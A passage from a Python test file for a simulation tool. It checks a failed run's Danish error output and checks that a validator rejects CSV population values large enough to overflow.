        _, err = run.communicate(timeout=600)
        assert run.returncode == 1, err
        line = _one_error_line(err)
        assert line.startswith("fejl: ") and "scheduler" in line  # --lang da, the default
        assert not (tmp_path / "lost" / "results.nc").exists()
    finally:
        for p in procs:
            p.kill()
            p.wait()
        logs.close()


def test_populations_that_would_overflow_are_refused(tmp_path, capsys):
    (tmp_path / "m.csv").write_text("code,name,region,population\n101,A,R,1e308\n147,B,R,1e308\n")
    sc = tmp_path / "s.toml"
    sc.write_text(HEAD.replace('name = "many"', 'name = "x"\nmunicipalities = "m.csv"') + _initiatives_toml(1))
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    err = capsys.readouterr().err
    assert "line 2: population must be at most 1e+12, got '1e308'" in err
